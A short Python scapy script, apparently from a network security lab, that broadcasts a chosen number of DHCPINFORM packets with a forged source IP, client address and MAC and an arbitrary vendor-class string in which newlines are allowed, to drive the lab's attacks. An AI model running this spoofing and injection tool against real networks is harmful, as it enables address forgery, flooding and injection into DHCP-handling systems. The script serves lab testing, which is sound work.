#!/usr/bin/python3
"""Sends DHCPINFORMs and does not wait for answers: the lab's attacks read the bridge's counters instead.

    send_inform.py <iface> <ip-src> <ciaddr> <mac> <count> [vendor-class]

The IP source may be forged (any address, on any interface): that is the point. The vendor class
(option 60) is sent byte for byte as given, newlines included.
"""
import sys

from scapy.all import BOOTP, DHCP, IP, UDP, Ether, conf, get_if_hwaddr, sendp  # noqa: E402

iface, src, ciaddr, mac, count = sys.argv[1:6]
vendor = sys.argv[6].encode() if len(sys.argv) > 6 else b"Polycom-VVX450"
conf.verb = 0
chaddr = bytes.fromhex(mac.replace(":", "")) + b"\x00" * 10
packet = (Ether(src=get_if_hwaddr(iface), dst="ff:ff:ff:ff:ff:ff")
          / IP(src=src, dst="255.255.255.255")
          / UDP(sport=68, dport=67)
          / BOOTP(op=1, xid=0x5B1D6E02, ciaddr=ciaddr, chaddr=chaddr, flags=0)
          / DHCP(options=[("message-type", "inform"), ("param_req_list", [1, 3, 6, 66, 160]),
                          ("vendor_class_id", vendor), "end"]))
sendp(packet, iface=iface, count=int(count), inter=0)
